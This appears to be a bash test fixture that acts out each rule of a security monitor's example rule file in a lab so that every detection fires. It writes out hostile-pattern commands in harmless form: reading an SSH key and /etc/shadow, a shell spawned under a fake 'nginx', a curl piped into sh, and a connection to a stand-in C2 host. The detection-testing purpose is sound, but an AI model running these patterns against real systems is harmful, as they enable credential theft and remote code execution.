#!/usr/bin/env bash
# What each rule of rules/example.toml is about, done for real (as root, under
# rg-capture, in the network lab: scripts/net/lab.sh): the rules test replays the capture with --rules and expects
# every rule to fire. WORKDIR must be traversable by nobody (setpriv below).
#   bash example-rules.sh WORKDIR
set -u
work=${1:?workdir}
mkdir -p "$work/.ssh"
echo 'not a real key' > "$work/.ssh/id_ed25519"

# credential.ssh_private_key_read: a key opened by something other than ssh
cat "$work/.ssh/id_ed25519" > /dev/null
# credential.shadow_read: /etc/shadow opened by a non-root user (refused, still an attempt)
setpriv --reuid=65534 --regid=65534 --clear-groups cat /etc/shadow > /dev/null 2>&1
# execution.shell_from_web_server: a shell started under a program named nginx
cp /usr/bin/bash "$work/nginx"
"$work/nginx" -c '/bin/sh -c true; true'
# network.outside_private_ranges: "nginx" connecting to a public address (refused or not)
timeout 2 "$work/nginx" -c 'exec 3<>/dev/tcp/198.51.100.7/80' 2>/dev/null
# execution.download_and_run: curl piped into a shell (nothing listens: curl fails, sh reads nothing)
curl -s --max-time 2 http://127.0.0.1:9/install.sh | sh
# network.c2_name: a connect to an address resolved from a C2's name (the network lab's fake DNS answers it)
curl -s -o /dev/null --max-time 2 http://c2.evil.example:4444/
exit 0
